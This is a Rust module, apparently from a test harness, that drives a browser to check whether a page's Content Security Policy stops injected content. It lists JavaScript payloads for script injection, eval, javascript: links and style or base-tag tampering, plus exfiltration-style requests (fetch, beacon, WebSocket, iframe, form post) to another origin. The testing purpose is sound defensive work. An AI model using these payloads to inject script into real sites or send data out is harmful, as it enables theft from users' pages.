//! What somebody who gets a word into a page could try to do with it.

use crate::browser::Browser;
use anyhow::Result;
use serde_json::{Value, json};

/// One way.
pub struct Attack {
    /// Its name; what it asks of another origin has this path.
    pub name: &'static str,
    /// The directive of the policy that has to stop it, or how its name begins.
    pub stopped_by: &'static str,
    /// JavaScript. `elsewhere` is another origin; `effect(name)`, which the whole page knows, tells that it worked.
    script: &'static str,
}

const fn attack(name: &'static str, stopped_by: &'static str, script: &'static str) -> Attack {
    Attack { name, stopped_by, script }
}

/// Those whose effect is in the page.
pub const EFFECTS: [Attack; 12] = [
    attack(
        "script",
        "script-src",
        "const e = document.createElement('script'); e.textContent = \"effect('script')\"; document.body.append(e)",
    ),
    attack(
        "handler",
        "script-src",
        "const e = document.createElement('b'); e.setAttribute('onclick', \"effect('handler')\"); \
         document.body.append(e); e.click()",
    ),
    attack("eval", "script-src", "self.eval(\"effect('eval')\")"),
    attack("function", "script-src", "new self.Function(\"effect('function')\")()"),
    attack("timer", "script-src", "setTimeout(\"effect('timer')\")"),
    attack(
        "link",
        "script-src",
        "const e = document.createElement('a'); e.href = \"javascript:effect('link')\"; document.body.append(e); \
         e.click()",
    ),
    attack(
        "blob",
        "script-src",
        "const e = document.createElement('script'); \
         e.src = URL.createObjectURL(new Blob([\"effect('blob')\"], { type: 'text/javascript' })); \
         document.body.append(e)",
    ),
    attack(
        "worker",
        "worker-src",
        "const e = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))); \
         e.onmessage = () => effect('worker')",
    ),
    attack(
        "sheet",
        "style-src",
        "const e = document.createElement('style'); e.textContent = 'body { display: none }'; \
         document.head.append(e); if (getComputedStyle(document.body).display === 'none') effect('sheet'); e.remove()",
    ),
    attack(
        "style",
        "style-src",
        "const e = document.createElement('p'); e.setAttribute('style', 'display: none'); document.body.append(e); \
         if (getComputedStyle(e).display === 'none') effect('style')",
    ),
    attack(
        "base",
        "base-uri",
        "const e = document.createElement('base'); e.href = elsewhere + '/base/'; document.head.append(e); \
         if (document.baseURI.startsWith(elsewhere)) effect('base'); e.remove()",
    ),
    attack(
        "data",
        "img-src",
        "const e = new Image(); e.onload = () => effect('data'); \
         e.src = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'",
    ),
];

/// Those that ask something of another origin, which would carry her words away.
pub const REQUESTS: [Attack; 10] = [
    attack("image", "img-src", "new Image().src = elsewhere + '/image'"),
    attack(
        "program",
        "script-src",
        "const e = document.createElement('script'); e.src = elsewhere + '/program'; document.body.append(e)",
    ),
    attack("fetch", "connect-src", "fetch(elsewhere + '/fetch', { mode: 'no-cors' }).catch(() => {})"),
    attack("beacon", "connect-src", "navigator.sendBeacon(elsewhere + '/beacon', 'x')"),
    attack("socket", "connect-src", "new WebSocket(elsewhere.replace('http', 'ws') + '/socket')"),
    attack(
        "frame",
        "frame-src",
        "const e = document.createElement('iframe'); e.src = elsewhere + '/frame'; document.body.append(e)",
    ),
    attack(
        "linked",
        "style-src",
        "const e = document.createElement('link'); e.rel = 'stylesheet'; e.href = elsewhere + '/linked'; \
         document.head.append(e)",
    ),
    attack("font", "font-src", "new FontFace('x', 'url(' + elsewhere + '/font)').load().catch(() => {})"),
    attack("sound", "media-src", "const e = new Audio(elsewhere + '/sound'); e.load()"),
    attack(
        "object",
        "object-src",
        "const e = document.createElement('object'); e.data = elsewhere + '/object'; document.body.append(e)",
    ),
];

/// The same by a form, which leads away from the page.
pub const FORM: Attack = attack(
    "form",
    "form-action",
    "const e = document.createElement('form'); e.method = 'post'; e.action = elsewhere + '/form'; \
     document.body.append(e); e.submit()",
);

/// Tries it on the page that is open: the directives that were `violated`, and the `effects` of all attacks so far.
/// Looks for one of either, at most so many times, fifty a second.
///
/// # Errors
/// If the browser refuses, or the page is gone.
pub async fn attempt(browser: &Browser, elsewhere: &str, attack: &Attack, looks: u32) -> Result<Value> {
    // In a turn of its own, and by the functions of the page: while a driver's script runs, and in the place that some
    // drivers give it, browsers let it do what the policy forbids.
    let script = format!(
        "const [elsewhere, name, looks, done] = arguments, violated = []; \
         const note = (event) => violated.push(event.effectiveDirective); \
         self.effects ??= []; self.effect = (name) => self.effects.push(name); \
         document.addEventListener('securitypolicyviolation', note); \
         setTimeout(() => {{ try {{ {} }} catch {{}} }}); \
         const look = (left) => {{ \
           if (left && !violated.length && !self.effects.includes(name)) return setTimeout(look, 20, left - 1); \
           document.removeEventListener('securitypolicyviolation', note); \
           done({{ violated, effects: self.effects }}); \
         }}; \
         setTimeout(look, 20, looks);",
        attack.script
    );
    Ok(browser
        .client
        .execute_async(&script, vec![json!(elsewhere), json!(attack.name), json!(looks)])
        .await?)
}
